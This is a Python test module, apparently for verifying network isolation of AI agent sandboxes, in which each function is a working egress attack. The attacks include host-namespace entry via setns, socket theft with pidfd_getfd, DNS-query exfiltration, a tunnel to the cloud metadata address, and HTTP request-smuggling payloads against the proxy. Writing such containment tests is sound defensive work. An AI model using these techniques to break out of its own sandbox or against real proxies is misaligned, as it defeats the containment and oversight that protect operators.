"""Wants out by every socket that the kernel has, and past the proxy. Each function is one attack."""

import ctypes
import errno
import functools
import os
import re
import socket
import ssl
import struct
import time
import urllib.error
import urllib.parse
import urllib.request

PATIENCE = 5
FAST_OPEN = 0x20000000
LOOPBACK = "127.0.0.1"
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attack(function):
    """Makes `outcome` of what a function does: `done`, or what stopped it: an errno, or the status of an answer."""

    @functools.wraps(function)
    def attempt(*arguments, **named):
        try:
            return {"outcome": "done", "got": function(*arguments, **named)}
        except urllib.error.HTTPError as error:
            return {"outcome": str(error.code)}
        except socket.gaierror:
            return {"outcome": "gaierror"}
        except TimeoutError:
            return {"outcome": "ETIMEDOUT"}
        except OSError as error:
            reason = getattr(error, "reason", error)
            return {"outcome": errno.errorcode.get(getattr(reason, "errno", None), repr(error))}

    return attempt


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def connect(family, kind, address, protocol=0):
    with socket.socket(family, kind, protocol) as sock:
        sock.settimeout(PATIENCE)
        sock.connect(address)
        sock.send(b"hostile")


def say(sock, data):
    """Sends to the proxy and returns all that it answers."""
    sock.sendall(data)
    answer = b""
    try:
        while block := sock.recv(65536):
            answer += block
    except ConnectionResetError:
        pass
    return answer


def to_proxy():
    place = urllib.parse.urlsplit(os.environ["http_proxy"])
    return socket.create_connection((place.hostname, place.port), PATIENCE)


def statuses(answer):
    return [int(status) for status in re.findall(rb"HTTP/1\.[01] ([0-9]{3}) ", answer)]


def refused(status):
    raise urllib.error.HTTPError("", status, "refused", None, None)


def open_tunnel(place):
    sock = to_proxy()
    sock.sendall(f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        byte = sock.recv(1)
        if not byte:
            break
        head += byte
    status = statuses(head)[0]
    return sock if status == 200 else refused(status)


# without the proxy


@attack
def tcp(facts):
    connect(socket.AF_INET, socket.SOCK_STREAM, (LOOPBACK, facts["tcp"]))


@attack
def tcp6(facts):
    connect(socket.AF_INET6, socket.SOCK_STREAM, ("::1", facts["tcp6"]))


@attack
def tcp_mapped(facts):
    connect(socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", facts["tcp"]))


@attack
def udp(facts):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"hostile", (LOOPBACK, facts["udp"]))


@attack
def udp_connected(facts):
    connect(socket.AF_INET, socket.SOCK_DGRAM, (LOOPBACK, facts["udp"]))


@attack
def unix_stream(facts):
    connect(socket.AF_UNIX, socket.SOCK_STREAM, facts["unix"])


@attack
def unix_datagram(facts):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"hostile", facts["datagrams"])


@attack
def unix_by_link(facts):
    os.symlink(facts["unix"], "way")
    connect(socket.AF_UNIX, socket.SOCK_STREAM, "way")


@attack
def unix_by_descriptor(facts):
    """A descriptor that only names the socket's file needs no right to open it."""
    named = os.open(facts["unix"], os.O_PATH)
    connect(socket.AF_UNIX, socket.SOCK_STREAM, f"/proc/self/fd/{named}")


@attack
def unix_given(place):
    for name in os.listdir(place):
        connect(socket.AF_UNIX, socket.SOCK_STREAM, os.path.join(place, name))


@attack
def abstract_stream(facts):
    connect(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + facts["abstract"])


@attack
def abstract_datagram(facts):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"hostile", "\0" + facts["abstract_datagrams"])


@attack
def pair_of_datagrams(facts):
    socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"hostile", facts["datagrams"])


@attack
def pair_of_raw(facts):
    socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW)[0].sendto(b"hostile", facts["datagrams"])


@attack
def pair_of_packets(facts):
    pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    pair[0].sendto(b"hostile", facts["datagrams"])
    assert pair[1].recv(100) == b"hostile"
    raise OSError(errno.EISCONN, "it went to the other end")


@attack
def netlink(facts):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.bind((0, 0))


@attack
def packet(facts):
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).close()


@attack
def raw(facts):
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


@attack
def vsock(facts):
    host = 2
    connect(socket.AF_VSOCK, socket.SOCK_STREAM, (host, 1024))


@attack
def other_families(facts):
    opened = set()
    for family in set(range(64)) - {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6}:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            descriptor = libc.socket(family, kind, 0)
            if descriptor >= 0:
                opened.add(family)
                os.close(descriptor)
    if not opened:
        raise OSError(errno.EAFNOSUPPORT, "none")
    return sorted(opened)


@attack
def multipath(facts):
    connect(socket.AF_INET, socket.SOCK_STREAM, (LOOPBACK, facts["tcp"]), 262)


@attack
def sctp(facts):
    connect(socket.AF_INET, socket.SOCK_STREAM, (LOOPBACK, facts["tcp"]), 132)


@attack
def fast_open(facts):
    with socket.socket() as sock:
        sock.sendto(b"hostile", FAST_OPEN, (LOOPBACK, facts["tcp"]))
        time.sleep(0.1)  # it is sent behind the caller's back
        sock.getpeername()


@attack
def fast_open_by_option(facts):
    with socket.socket() as sock:
        sock.setsockopt(socket.IPPROTO_TCP, 30, 1)
        sock.connect((LOOPBACK, facts["tcp"]))
        sock.send(b"hostile")


@attack
def many_messages(facts):
    """sendmmsg with an address connects as well, where fast open is asked for."""
    with socket.socket() as sock:
        address = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", facts["tcp"], socket.inet_aton(LOOPBACK))
        name = ctypes.create_string_buffer(address, len(address))
        data = ctypes.create_string_buffer(b"hostile")
        vector = struct.pack("=QQ", ctypes.addressof(data), 7)
        vectors = ctypes.create_string_buffer(vector, len(vector))
        message = struct.pack("=QIxxxxQQQQQIxxxx", ctypes.addressof(name), 16, ctypes.addressof(vectors), 1, 0, 0, 0, 0)
        checked(libc.sendmmsg(sock.fileno(), ctypes.create_string_buffer(message, len(message)), 1, FAST_OPEN))


@attack
def uring_socket(facts):
    os.close(checked(libc.syscall(425, 4, ctypes.create_string_buffer(120))))


@attack
def ask_resolver(facts):
    return socket.getaddrinfo(f"{facts['marker']}.agenthub-tests.invalid", 80)[0][4][0]


@attack
def ask_name_server(facts):
    """The question itself carries the data out."""
    question = (
        b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + bytes([len(facts["marker"])]) + facts["marker"].encode() + b"\0\0\1\0\1"
    )
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(question, (LOOPBACK, facts["udp"]))


@attack
def ask_cache_daemon(facts):
    for path in ("/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve", "/run/dbus/system_bus_socket"):
        try:
            connect(socket.AF_UNIX, socket.SOCK_STREAM, path)
            return path
        except (FileNotFoundError, ConnectionRefusedError):
            continue
    raise FileNotFoundError(errno.ENOENT, "none")


@attack
def serve(facts):
    """Waits for somebody of the host, who would carry the data out."""
    with socket.create_server((LOOPBACK, facts["inbound"])) as server:
        server.settimeout(2)
        server.accept()[0].close()


@attack
def serve_abstract(facts):
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("\0" + facts["inbound_name"])
        server.listen()
        server.settimeout(2)
        server.accept()[0].close()


@attack
def host_namespace(facts):
    descriptor = os.open(f"/proc/{facts['canary']}/ns/net", os.O_RDONLY)
    checked(libc.setns(descriptor, 0))
    connect(socket.AF_INET, socket.SOCK_STREAM, (LOOPBACK, facts["tcp"]))


@attack
def stolen_socket(facts):
    """Takes the listening socket out of the process that has it."""
    process = os.pidfd_open(facts["tests"])
    for number in range(3, 64):
        descriptor = libc.syscall(438, process, number, 0)
        if descriptor >= 0:
            return os.readlink(f"/proc/self/fd/{descriptor}")
    return checked(-1)


# through the proxy, and past it


@attack
def past_the_proxy(facts):
    connect(socket.AF_INET, socket.SOCK_STREAM, (LOOPBACK, facts["good"]))


@attack
def tunnel_elsewhere(facts):
    open_tunnel(f"{LOOPBACK}:{facts['tcp']}").close()


@attack
def tunnel_to_metadata(facts):
    open_tunnel("169.254.169.254:80").close()


@attack
def get_elsewhere(facts):
    return urllib.request.urlopen(f"http://{LOOPBACK}:{facts['tcp']}/", timeout=PATIENCE).read().decode()


@attack
def follow_redirect(facts):
    address = f"http://{LOOPBACK}:{facts['tcp']}/"
    url = f"http://{LOOPBACK}:{facts['good']}/redirect?to={address}"
    return urllib.request.urlopen(url, timeout=PATIENCE).read().decode()


def lookalikes(facts):
    """The status of the answer to each spelling."""
    found = {}
    for spelling in facts["spellings"]:
        host = spelling.split("/")[2]
        for request in (f"GET {spelling} HTTP/1.1\r\nHost: {host}", f"CONNECT {host} HTTP/1.1\r\nHost: {host}"):
            with to_proxy() as sock:
                answer = say(sock, f"{request}\r\nConnection: close\r\n\r\n".encode())
                found[request.split("\r\n")[0]] = statuses(answer)
    return found


def smuggle(facts):
    """The status of the answer to each request that names two hosts, or has two ends."""
    good, evil = f"{LOOPBACK}:{facts['good']}", f"{LOOPBACK}:{facts['tcp']}"
    found = {}
    for name, head in {
        "another host": f"GET http://{good}/ HTTP/1.1\r\nHost: {evil}",
        "two hosts": f"GET http://{good}/ HTTP/1.1\r\nHost: {good}\r\nHost: {evil}",
        "folded host": f"GET http://{good}/ HTTP/1.1\r\nHost: {good}\r\n {evil}",
        "spaced host": f"GET http://{good}/ HTTP/1.1\r\nHost : {evil}",
        "no proxy form": f"GET / HTTP/1.1\r\nHost: {evil}",
        "tunnel for another": f"CONNECT {good} HTTP/1.1\r\nHost: {evil}",
        "bare line end": f"GET http://{good}/ HTTP/1.1\nHost: {evil}\r\nHost: {good}",
        "two lengths": f"POST http://{good}/ HTTP/1.1\r\nHost: {good}\r\nContent-Length: 0\r\nContent-Length: 50",
        "length and chunks": f"POST http://{good}/ HTTP/1.1\r\nHost: {good}\r\nContent-Length: 5\r\n"
        "Transfer-Encoding: chunked",
    }.items():
        with to_proxy() as sock:
            found[name] = statuses(say(sock, f"{head}\r\nConnection: close\r\n\r\n".encode()))
    return found


@attack
def second_request(facts):
    good, evil = f"{LOOPBACK}:{facts['good']}", f"{LOOPBACK}:{facts['tcp']}"
    first = f"GET http://{good}/ HTTP/1.1\r\nHost: {good}\r\n\r\n"
    second = f"GET http://{evil}/ HTTP/1.1\r\nHost: {evil}\r\n\r\n"
    with to_proxy() as sock:
        found = statuses(say(sock, (first + second).encode()))
    assert found[0] == 200, found
    return refused(found[1])


@attack
def request_in_body(facts):
    good, evil = f"{LOOPBACK}:{facts['good']}", f"{LOOPBACK}:{facts['tcp']}"
    inner = f"GET http://{evil}/ HTTP/1.1\r\nHost: {evil}\r\n\r\n"
    head = f"POST http://{good}/ HTTP/1.1\r\nHost: {good}\r\nContent-Length: 0\r\n\r\n"
    with to_proxy() as sock:
        found = statuses(say(sock, (head + inner).encode()))
    assert found[0] == 200, found
    return refused(found[1])


@attack
def other_name_in_tunnel(facts):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with open_tunnel(facts["named"]) as sock:
        try:
            context.wrap_socket(sock, server_hostname="another.example.com").close()
        except ssl.SSLError as error:
            raise OSError(errno.EPROTO, error.reason) from None


@attack
def nothing_of_tls_in_tunnel(facts):
    with open_tunnel(facts["named"]) as sock:
        answer = say(sock, b"GET / HTTP/1.1\r\nHost: another.example.com\r\n\r\n")
    if b"HTTP/1." not in answer:
        raise OSError(errno.EPROTO, "refused")
    return answer.decode("latin-1")


@attack
def own_proxy(facts):
    """Forgets the proxy of the run, and takes the listener for one."""
    handler = urllib.request.ProxyHandler({"http": f"http://{LOOPBACK}:{facts['tcp']}"})
    url = f"http://{LOOPBACK}:{facts['good']}/"
    return urllib.request.build_opener(handler).open(url, timeout=PATIENCE).read().decode()


def fetch(facts):
    """An agent that means no harm, and was not allowed this host."""
    return urllib.request.urlopen(facts["url"], timeout=PATIENCE).read().decode()
